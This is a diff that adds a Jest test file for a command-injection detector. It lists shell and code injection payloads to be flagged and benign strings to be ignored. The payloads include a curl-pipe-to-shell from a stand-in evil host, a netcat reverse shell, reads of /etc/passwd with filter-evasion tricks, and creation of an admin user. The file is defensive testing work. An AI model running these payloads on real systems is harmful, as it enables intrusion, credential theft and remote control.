@@ -1,0 +1,88 @@
+import { createDetectorInput, makePoint } from '../../detector-input';
+import type { Point } from '../../types';
+import { cmdiDetector } from './index';
+
+function conf(value: string, path = 'query.q', overrides: Partial<Point> = {}): number {
+  const d = cmdiDetector.detect(createDetectorInput(makePoint(value, path, overrides)));
+  return d === null ? 0 : d.confidence;
+}
+
+describe('cmdiDetector', () => {
+  it.each([
+    ';id;',
+    '| id',
+    "';id;'",
+    '"|/usr/bin/id|"',
+    '%0Aid%0A',
+    '%0a/usr/bin/id%0a',
+    '$(whoami)',
+    '`uname -a`',
+    'a;cat /etc/passwd',
+    'x && curl http://evil.example/x.sh | sh',
+    '; wget https://evil.example/a -O /tmp/a',
+    '| nc -e /bin/sh 10.0.0.1 4444',
+    '& ping -n 30 127.0.0.1 &',
+    ';sleep 5',
+    ";c'a't /etc/passwd",
+    ';c\\at /etc/passwd',
+    ';cat${IFS}/etc/passwd',
+    ';cat$IFS$9/etc/passwd',
+    ';{cat,/etc/passwd}',
+    ';/???/c?t /etc/passwd',
+    ';w$@hoami',
+    '& w^h^o^a^m^i',
+    '| powershell -enc SQBFAFgA',
+    '& cmd /c dir',
+    '&& type C:\\Windows\\win.ini',
+    '; net user hacker Password1 /ADD',
+    'reg add "HKLM\\System" /v x /t REG_DWORD /d 0 /f',
+    "perl -e 'print 1'",
+    'cat /etc/passwd',
+    "' whoami",
+    '\\necho INJECTX\\nexit\\n\\033[2Asleep 5\\n',
+  ])('detects shell injection %s', (payload) => {
+    expect(conf(payload)).toBeGreaterThanOrEqual(0.5);
+  });
+
+  it.each([
+    "system('cat /etc/passwd');",
+    '<?php system("id"); ?>',
+    '${@print(md5(31337))}',
+    '{${phpinfo()}}',
+    "';phpinfo();'",
+    "require('child_process').exec('id')",
+    "__import__('os').system('id')",
+    'Runtime.getRuntime().exec("id")',
+    '&lt;!--#exec cmd=&quot;/bin/cat /etc/passwd&quot;--&gt;',
+  ])('detects code injection %s', (payload) => {
+    expect(conf(payload)).toBeGreaterThanOrEqual(0.5);
+  });
+
+  it.each([
+    'Tom & Jerry',
+    'salt & pepper; sleep well',
+    'Bread & Butter | Cat Food',
+    'fish and chips; cats & dogs',
+    'https://example.com/search?q=shoes&size=10&color=red',
+    '| Name | Type |\n|------|------|\n| id | int |',
+    'id',
+    'sort=id&dir=asc',
+    'Raleigh; NC',
+    'Q&A; see more',
+    'please find attached; more later',
+    'query { user(id: 1) {\n  id\n  name\n  email\n  avatar\n }\n}\nfragment x on User {\n id\n}',
+    'my cat ate the echo',
+    'python developer (remote)',
+    'I love python & perl',
+    "O'Reilly & Sons",
+    'rock-n-roll; pop-up',
+    'function f() { return exec(x); }',
+    'regex.exec(str)',
+  ])('ignores benign %s', (value) => {
+    expect(conf(value)).toBeLessThan(0.5);
+  });
+
+  it('ignores names (keys)', () => {
+    expect(conf(';id;', 'query.x', { isKey: true })).toBe(0);
+  });
+});
